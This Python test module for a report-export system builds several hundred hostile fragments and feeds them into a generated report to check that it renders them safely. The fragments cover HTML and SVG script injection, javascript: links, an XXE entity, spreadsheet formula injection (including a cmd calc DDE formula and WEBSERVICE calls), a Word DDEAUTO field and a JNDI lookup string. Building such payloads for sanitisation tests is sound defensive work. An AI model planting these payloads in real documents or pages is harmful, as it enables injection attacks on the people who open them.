"""Three hundred hostile fragments, each with a mark by which it is found again, and a report of them."""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from itertools import count

from exports.content import Content, Figure, Masthead, Narrative, Row, Section, Share, Words
from exports.numbering import chapter_mark
from exports.sections import heading, numbered_notes, numbered_sections, with_text
from exports.visible import visible

RLO, LRI, PDI, NUL, HALF = "\u202e", "\u2066", "\u2069", "\x00", "\ud83d"


def _payloads(address: str, file: str) -> list[str]:
    """``address`` is a host that must not be asked, ``file`` one that must not be read."""
    return [
        "<script>alert(1)</script>",
        f'<script src="{address}/a.js"></script>',
        f'<img src="{address}/a.png" onerror="alert(1)">',
        f'<img src="{file}">',
        f'<iframe src="{address}/frame"></iframe>',
        f'<object data="{file}"></object>',
        f'<embed src="{address}/e.swf">',
        f'<link rel="stylesheet" href="{address}/a.css">',
        f'<link rel="attachment" href="{file}">',
        f'<style>@import "{address}/b.css"; * {{ background: url({address}/bg.png) }}</style>',
        f'<p style="background: url({address}/s.png); position: fixed">x</p>',
        f'<base href="{address}/">',
        f'<meta http-equiv="refresh" content="0; url={address}/">',
        f'<form action="{address}/"><input name="x" autofocus onfocus=alert(1)></form>',
        '<svg onload="alert(1)"><script>alert(1)</script></svg>',
        f'<svg><image href="{address}/svg.png"/><use href="{file}#x"/></svg>',
        f'<svg><foreignObject><iframe src="{address}/f"></iframe></foreignObject></svg>',
        '<math><mtext><style><a title="</style><img src onerror=alert(1)>"></mtext></math>',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        f'<a href="{file}">x</a>',
        "[x](javascript:alert(1))",
        f"[x]({address}/link)",
        f"[x]({file})",
        f"![x]({address}/picture.png)",
        f"![x]({file})",
        f"<{address}/auto>",
        "[x]: javascript:alert(1)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "</p></div></section></main></body></html><script>alert(1)</script>",
        "--><script>alert(1)</script><!--",
        "]]><script>alert(1)</script><![CDATA[",
        '</w:t></w:r><w:r><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/></w:r>',
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "{file}">]>&e;',
        "&lol9; &#0; &#xD800; &#x202E; &amp;lt;script&amp;gt;",
        f'=HYPERLINK("{address}/cell")',
        f'=WEBSERVICE("{address}/cell")',
        "=cmd|' /C calc'!A0",
        "+1+1 @SUM(1) -2+3",
        "\t=1+1",
        "{{ 7|add:7 }} {% debug %} %(by)s {by} %n ${jndi:ldap://x}",
        "<table><tr><td colspan=1000000 rowspan=1000000>x</td></tr></table>",
        f"{RLO}gpj.exe{PDI} {LRI}x {NUL}y{HALF}z",
        "W" * 2_000,
        "<b><i><u>" * 40,
    ]


WRAPPED = (
    "{mark} {payload}",
    "- {mark} {payload}\n  - {payload}",
    "# {mark} {payload}",
    "> {mark} {payload}",
    "| {mark} | b |\n| --- | --- |\n| {payload} | c |",
    "{mark} said.[^1]\n\n[^1]: {payload}",
    "```\n{mark} {payload}\n```",
)
ODD = (
    "{mark} " + "- " * 60 + "x",
    "\n".join(f"{'  ' * depth}- {{mark}} {depth}" for depth in range(40)),
    "{mark} " + "[" * 300,
    "{mark} " + "*" * 300 + "_" * 300,
    "| " + " | ".join(["{mark}"] * 60) + " |\n| " + " | ".join(["-"] * 60) + " |\n" + "| x | y |\n" * 20,
    "{mark}[^1][^1][^2]\n\n[^1]: one [^2]\n[^2]: two [^1]",
    "{mark} " + "\u0300" * 500,
    "{mark} " + "\u200f\u200e\u200b\ufeff" * 50,
)


def fragments(address: str, file: str) -> list[str]:
    """Each bears its mark, ``mark0017x``."""
    numbers = (f"mark{number:04}x" for number in count())
    payloads = _payloads(address, file)
    wrapped = [
        one.replace("{mark}", next(numbers)).replace("{payload}", payload)
        for payload in payloads
        for one in WRAPPED
    ]
    return wrapped + [one.replace("{mark}", next(numbers)) for one in ODD]


def report_of(texts: Sequence[str], language: str = "en", rows: int | None = None) -> Content:
    """A report in which each of them is narrative, full text, heading, and (``rows`` of them) in the annexes.

    It is put together as ``exports/chapters.py`` does, of what people could have typed there.
    """
    sections = numbered_sections(_sections(texts, language, rows))
    title = " ".join(texts[:2])[:500] or "Nothing"
    content = Content(
        format=3,
        reference="hostile",
        kind="upr",
        language=language,
        direction="rtl" if language == "ar" else "ltr",
        masthead=Masthead(
            state=title, title=title, body=title, symbol=title, distribution=title, dated_on="2026-03-01",
            original_language=title, coordinated_by=title,
        ),
        sections=sections,
        narratives=[Narrative(answer=1, version=1, references=[], numbers=[1])],
        matrix=[_row(number, text, language) for number, text in enumerate(texts[:rows], start=1)],
        notes=numbered_notes(sections),
        notes_at="end",
        figures=[_figure(texts[:12], language)],
    )  # fmt: skip
    return visible(content)


def _words(text: str, language: str) -> Words:
    return Words(text=text, language=language, direction="auto")


def _sections(texts: Iterable[str], language: str, rows: int | None) -> Iterable[Section]:
    for number, text in enumerate(texts, start=1):
        made = heading("narrative", 1, chapter_mark(min(number, 300)), _words(text[:300], language))
        made["references"] = [f"UPR-{number}"]
        yield with_text(made, text, language, full=text if rows is None or number <= rows else "")


def _row(number: int, text: str, language: str) -> Row:
    return Row(
        number=number, reference=f"UPR-{number}", mechanism=text[:200], symbol=text[:60],
        paragraph=text[:20], text=_words(text, language), position=text[:60],
        department=_words(text, language), status=_words(text[:60], language), is_closed=False,
        answered_in="1", first_paragraph=1,
    )  # fmt: skip


def _figure(texts: Sequence[str], language: str) -> Figure:
    labels = [_words(text[:200], language) for text in texts]
    return Figure(
        title=labels[0] if labels else _words("", language),
        degrees=labels[:4],
        shares=[Share(label=label, counts=[1] * len(labels[:4])) for label in labels],
    )
